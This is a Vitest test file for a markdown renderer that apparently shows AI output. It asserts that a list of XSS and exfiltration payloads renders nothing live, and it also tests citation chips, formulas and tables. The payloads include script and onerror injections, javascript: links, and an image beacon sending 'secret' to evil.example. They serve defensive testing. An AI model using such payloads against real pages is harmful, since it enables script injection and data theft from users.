import { describe, expect, it, vi } from 'vitest'
import { rendered } from './md'

function show(markdown: string, open = false, cited: (n: number) => boolean = () => true): HTMLElement {
  const host = document.createElement('div')
  host.append(rendered(markdown, open, cited))
  return host
}

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<form action="https://evil.example"><input name=q><button>Send</button></form>',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<video src="https://evil.example/v" autoplay></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<details open ontoggle=alert(1)>x</details>',
  '![beacon](https://evil.example/pixel.png?q=secret)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![a][b]\n\n[b]: https://evil.example/pixel.png',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](vbscript:msgbox(1))',
  '[click](file:///etc/passwd)',
  '[click](https://evil.example "onmouseover=alert(1)")',
  '[x]("onmouseover="alert(1))',
  '<https://evil.example/?"onclick=alert(1)>',
  'https://evil.example/?q="><img src=x onerror=alert(1)>',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\includegraphics{https://evil.example/x.png}$',
  '$$\\htmlData{onclick=alert(1)}{x}$$',
  '$"><img src=x onerror=alert(1)>$',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '[1]<img src=x onerror=alert(1)>',
  'x<!--><img src=x onerror=alert(1)>-->',
  '<a data-href="javascript:alert(1)" role="link">x</a>',
]

describe('what a model may not do', () => {
  for (const open of [false, true]) {
    it.each(attacks)(`%s${open ? ' (while it grows)' : ''}`, async (attack) => {
      const fetched = vi.spyOn(globalThis, 'fetch')
      const host = show(attack, open)
      document.body.append(host)
      await vi.dynamicImportSettled()
      expect(host.querySelector('script, img, svg:not(.katex svg), iframe, object, embed, video, style, link, meta, base, form, input, details')).toBeNull()
      for (const element of host.querySelectorAll('*')) {
        for (const { name, value } of element.attributes) {
          expect(name).not.toMatch(/^on|^(href|src|srcset|action|formaction|srcdoc|xlink:href)$/i)
          if (name === 'data-href') expect(value).toMatch(/^https?:/)
        }
      }
      expect(fetched).not.toHaveBeenCalled()
      host.remove()
      fetched.mockRestore()
    })
  }
})

describe('what a reader sees', () => {
  it('shows raw HTML as text', () => {
    expect(show('a <b>bold</b> claim').textContent).toContain('<b>bold</b>')
  })

  it('gives links no address of their own', () => {
    const link = show('[the site](https://example.org/a)').querySelector('a')!
    expect(link.dataset.href).toBe('https://example.org/a')
    expect(link.hasAttribute('href')).toBe(false)
    expect(link.getAttribute('role')).toBe('link')
  })

  it('says that an image was not loaded', () => {
    expect(show('![a chart](https://example.org/c.png)').textContent?.trim()).toBe('Image not loaded: a chart')
  })

  it('makes a chip of a cited number and leaves others as they are', () => {
    const host = show('First.[1] Then [7].', false, (n) => n === 1)
    expect(host.querySelectorAll('button.chip')).toHaveLength(1)
    expect(host.textContent).toContain('[7]')
  })

  it('puts a chip on the word before it where a blank stands between', () => {
    const root = show('in **2010** [1] [2]. Most')
    expect(root.textContent!.trim()).toBe('in 2010\u206012. Most')
    expect(show('in 2010 [1]. Most').querySelector('.keep')!.textContent).toBe('20101.')
  })

  it('keeps a chip with the word before it, and neighbours together', () => {
    const keep = show('in 2010.[1][2] Most').querySelector('.keep')!
    expect(keep.textContent).toBe('2010.12')
    expect(keep.querySelectorAll('button')).toHaveLength(2)
  })

  it('keeps no more than a sign where words are not parted by blanks, and the full stop behind it', () => {
    expect(show('前年は3,620万でした [1]。港').querySelector('.keep')!.textContent).toBe('た1。')
    expect(show('前年は3,620万でした [1][2]。港').querySelector('.keep')!.textContent).toBe('た12。')
  })

  it('does not take numbers in code for citations', () => {
    expect(show('`a[1]`').querySelector('button')).toBeNull()
  })

  it('does not take money for a formula', () => {
    const host = show('They spent $1,577 million, after $1,373 million and $1,420 million.')
    expect(host.querySelector('.math')).toBeNull()
    expect(host.textContent).toContain('$1,577 million, after $1,373')
  })

  it.each([['\\[1\\] \\*\\*bold\\*\\* [1]', '[1] **bold**1'], ['> so\n>\n> \\[see table 3\\] and on', 'so [see table 3] and on'], ['\\[never closed\n\nNext.', '[never closed Next.']])('leaves escaped brackets what they are: %s', (text, words) => {
    const host = show(text)
    expect(host.querySelector('.math')).toBeNull()
    expect(host.textContent!.replace(/\s+/g, ' ').trim()).toBe(words)
  })

  it('ends a formula where it ends, whatever follows on its line', () => {
    const host = show('$$a^2$$ is the area. \\[b^2\\] is another.')
    expect([...host.querySelectorAll<HTMLElement>('.math')].map((one) => one.dataset.tex)).toEqual(['a^2', 'b^2'])
    expect(host.textContent).toContain('is another.')
  })

  it.each([['$x^2$', 'x^2'], ['\\(a+b\\)', 'a+b'], ['$$\n\\frac{1}{2}\n$$', '\\frac{1}{2}'], ['so:\n$$\nx^3\n$$\nand on', 'x^3'], ['\\[ E = mc^2 \\]', 'E = mc^2']])('reads %s as a formula', async (text, tex) => {
    const host = show(text)
    expect(host.querySelector<HTMLElement>('.math')!.dataset.tex).toBe(tex)
    await vi.waitFor(() => expect(host.querySelector('.katex')).not.toBeNull())
  })

  it('shows the source of what is no formula after all', async () => {
    const host = show('$\\frac{1$')
    await vi.waitFor(() => expect(host.querySelector('.tex-source')?.textContent).toBe('\\frac{1'))
  })

  it('closes what is not closed yet while text grows, and holds half a citation back', () => {
    expect(show('It is **bold', true).querySelector('strong')?.textContent).toBe('bold')
    expect(show('It is so.[1', true).textContent?.trim()).toBe('It is so.')
  })

  it('puts tables into a frame that scrolls', () => {
    expect(show('| a | b |\n|---|--:|\n| 1 | 2 |').querySelector('.table > table td[align=right]')?.textContent).toBe('2')
  })
})
